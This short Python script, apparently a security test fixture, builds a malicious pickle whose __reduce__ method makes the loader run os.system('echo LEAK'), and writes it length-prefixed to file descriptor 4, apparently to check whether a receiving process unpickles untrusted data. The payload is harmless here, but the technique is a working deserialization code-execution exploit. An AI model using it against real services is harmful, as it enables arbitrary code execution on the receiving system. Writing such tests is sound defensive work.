"""Answers with a pickle that would run a program where it is loaded."""

import os
import pickle
import struct


class Command:
    def __reduce__(self):
        return os.system, ("echo LEAK",)


data = pickle.dumps(Command())
os.write(4, struct.pack("<I", len(data)) + data)
